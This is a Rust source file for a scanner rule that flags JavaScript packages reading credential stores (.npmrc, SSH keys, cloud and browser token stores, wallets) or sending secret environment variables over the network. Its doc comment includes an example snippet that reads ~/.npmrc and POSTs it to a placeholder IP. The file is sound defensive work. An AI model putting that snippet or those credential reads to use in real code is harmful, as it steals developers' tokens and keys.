//! JS203 `secret-theft`: credential stores read (and sent).
//!
//! **What it detects.** Reads of credential files — `.npmrc`, `~/.ssh/`,
//! `.aws/credentials`, `.config/gcloud`, `.docker/config.json`, browser and
//! Discord token stores (`Local Storage/leveldb`, `Login Data`), wallets —
//! and secret-looking environment variables (`NPM_TOKEN`, `GITHUB_TOKEN`,
//! `AWS_SECRET_ACCESS_KEY`) flowing into a network request or DNS query.
//!
//! **Why it matters.** Stolen npm and GitHub tokens are how worms like
//! Shai-Hulud (2025) and the 2018 `eslint-scope` compromise spread; the
//! seed's `jeilyfish` stole SSH and GPG keys. CWE-522, MITRE T1552.
//!
//! **Example.**
//! ```js
//! const t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
//! fetch('https://198.51.100.4/c', { method: 'POST', body: t });
//! ```
//!
//! **False positives.** npm configuration readers (`registry-auth-token`,
//! `@npmcli/config`) read `.npmrc`; release tools send `GITHUB_TOKEN` to
//! GitHub, API clients send `…_TOKEN` variables in headers. A read that is
//! not sent is Low in library code (Medium where it runs unasked); a secret
//! variable sent out is Low unless an install script sends it (Medium) or
//! it goes out through DNS (High).

use sluice_model::{Confidence, Finding, Severity};

use super::facts::label;
use super::{Ctx, api, network_sinks};

pub(super) fn check(ctx: &Ctx<'_, '_>) -> Vec<Finding> {
    let f = ctx.facts;
    let mut out = Vec::new();
    let sinks = network_sinks(f);
    let sent = sinks.iter().find(|(_, l)| l & label::SECRET != 0);
    let reads: Vec<_> = f
        .calls
        .iter()
        .filter(|c| c.path.as_deref().is_some_and(api::is_fs_read))
        .filter_map(|c| f.args_marker(c, api::secret_marker).map(|m| (c, m)))
        .collect();
    let paths = reads.iter().map(|(_, m)| *m).collect::<Vec<_>>().join(", ");
    if let Some((sink, _)) = sent {
        let sev = if ctx.unasked() {
            Severity::Critical
        } else {
            Severity::High
        };
        let mut fi = ctx.finding(
            sink.node,
            "JS203",
            "secret-theft",
            sev,
            Confidence::High,
            "credential file contents are sent out",
        );
        if let Some((read, marker)) = reads.first() {
            fi = fi.evidence(format!(
                "reads {marker} at line {}",
                f.line_col(read.node).0
            ));
        }
        if !paths.is_empty() {
            fi = fi.evidence(format!("credential paths read: {paths}"));
        }
        out.push(fi);
    } else if let Some((read, marker)) = reads.first() {
        let sev = if ctx.unasked() {
            Severity::Medium
        } else {
            Severity::Low
        };
        out.push(
            ctx.finding(
                read.node,
                "JS203",
                "secret-theft",
                sev,
                Confidence::Medium,
                format!("reads a credential store ({marker})"),
            )
            .evidence(format!("credential paths read: {paths}")),
        );
    }
    if let Some((sink, l)) = sinks.iter().find(|(_, l)| l & label::SECENV != 0) {
        let dns = sink.path.as_deref().is_some_and(api::is_dns);
        let (sev, conf) = if dns {
            (Severity::High, Confidence::High)
        } else if ctx.file.role == crate::FileRole::Install {
            // API clients send tokens from the environment in headers; only
            // an install script doing so is unusual.
            (Severity::Medium, Confidence::Low)
        } else {
            (Severity::Low, Confidence::Low)
        };
        out.push(
            ctx.finding(
                sink.node,
                "JS203",
                "secret-theft",
                sev,
                conf,
                "secret environment variables are sent out",
            )
            .evidence(format!(
                "sends: {}",
                label::names(*l & (label::SECENV | label::RECON)).join(", ")
            )),
        );
    }
    out
}
